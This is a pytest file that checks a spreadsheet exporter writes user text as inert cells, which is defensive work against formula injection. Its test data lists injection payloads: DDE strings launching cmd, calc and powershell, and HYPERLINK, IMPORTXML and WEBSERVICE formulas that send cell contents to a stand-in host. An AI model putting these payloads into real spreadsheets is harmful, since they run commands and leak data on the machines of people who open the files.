"""What people typed leaves as text: no cell of an export is alive, whatever stands in it."""

import io
import re
import zipfile
from itertools import product

import pytest
from defusedxml import ElementTree
from python_calamine import CalamineWorkbook

from tieubieu.spreadsheets import Table, write_table

STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "{=", "＝", "＋", "－", "＠", "%", "|"]
BODIES = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://la.example/?x="&A1,"Xem")',
    'IMPORTXML(CONCAT("https://la.example/",A1),"//a")',
    'WEBSERVICE("https://la.example")',
    "DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "SUM(A1:A9)*cmd|' /C powershell'!A0",
    "2+5+cmd|' /C notepad'!'A1'",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "INDIRECT(ADDRESS(1,1))",
    "EXEC(\"calc\")",
]  # fmt: skip
OTHERS = [
    "{=SUM(A1:A9)}", "https://la.example", "mailto:a@la.example", "internal:Sheet1!A1", "external:c:\\a.xlsx",
    "file:///etc/passwd", "\\\\la.example\\a", "TRUE", "#REF!", "1e9", "0123456789", "'=1+1", '"=1+1"', "=1+1\n=2+2",
    "</t></is><f>1+1</f>",
    "<f>1+1</f>", "&lt;f&gt;", "_x003D_1+1", "\x00=1+1", "\x01=1", "\ufeff=1+1", "\u200b=1+1", "\u202e=1+1", ";=1+1",
    ",=1+1", "Giá = 5 + 3",
]  # fmt: skip
STRINGS = [start + body + ("}" if start == "{=" else "") for start, body in product(STARTS, BODIES)] + OTHERS


def part(book, name):
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        return archive.read(name).decode()


def names(book):
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        return archive.namelist()


def alive(book):
    """Whatever of a workbook computes, fetches or leads anywhere."""
    sheet = part(book, "xl/worksheets/sheet1.xml")
    return re.findall(r"<f[\s>/]|<hyperlink|<oleObject|<control|t=\"(?:str|e|b)\"", sheet) + [
        name for name in names(book) if re.search(r"vba|external|connection|calcChain|sheet1\.xml\.rels", name)
    ]


@pytest.fixture(scope="module")
def book():
    return write_table(Table("Thử", STRINGS[:9], [[text, n] for n, text in enumerate(STRINGS)]))


def test_there_are_two_hundred_of_them():
    assert len(STRINGS) == len(set(STRINGS)) >= 200


def test_none_is_alive(book):
    assert alive(book) == []


def test_every_one_is_a_text_cell(book):
    sheet = ElementTree.fromstring(part(book, "xl/worksheets/sheet1.xml"))
    space = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}

    kinds = [cell.get("t") for cell in sheet.findall(".//m:c", space) if cell.get("r").startswith("A")]

    assert kinds == ["s"] * (len(STRINGS) + 1)


def test_each_is_read_back_as_it_was_typed(book):
    rows = CalamineWorkbook.from_filelike(io.BytesIO(book)).get_sheet_by_index(0).to_python()

    back = [row[0] for row in rows[1:]]
    plain = [n for n, text in enumerate(STRINGS) if not re.search(r"[\x00-\x08\r]|_x", text)]
    assert len(back) == len(STRINGS)
    assert [back[n] for n in plain] == [STRINGS[n] for n in plain]


def test_what_looks_alive_stays_text_when_it_is_edited(book):
    styles = part(book, "xl/styles.xml")

    sheet = part(book, "xl/worksheets/sheet1.xml")
    quoted = re.findall(r'<c r="A\d+" s="(\d+)" t="s"', sheet)
    assert 'quotePrefix="1"' in styles
    assert len(quoted) > len(STARTS) * len(BODIES)


def test_a_live_one_would_be_seen():
    import xlsxwriter

    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer, {"in_memory": True, "strings_to_formulas": False}) as made:
        made.add_worksheet().write_row(0, 0, ["{=SUM(A1:A9)}", "https://la.example"])

    assert alive(buffer.getvalue()) != []


def test_a_text_longer_than_a_cell_is_cut_and_not_lost():
    made = write_table(Table("Thử", ["A"], [["x" * 40_000]]))

    [_, [text]] = CalamineWorkbook.from_filelike(io.BytesIO(made)).get_sheet_by_index(0).to_python()
    assert text == "x" * 32_767


def test_numbers_stay_numbers_and_nothing_stays_nothing():
    made = write_table(Table("Thử", ["A", "B", "C"], [[3, None, ""], [2.5, "a", "b"]]))

    rows = CalamineWorkbook.from_filelike(io.BytesIO(made)).get_sheet_by_index(0).to_python()
    assert rows[1:] == [[3.0, "", ""], [2.5, "a", "b"]]
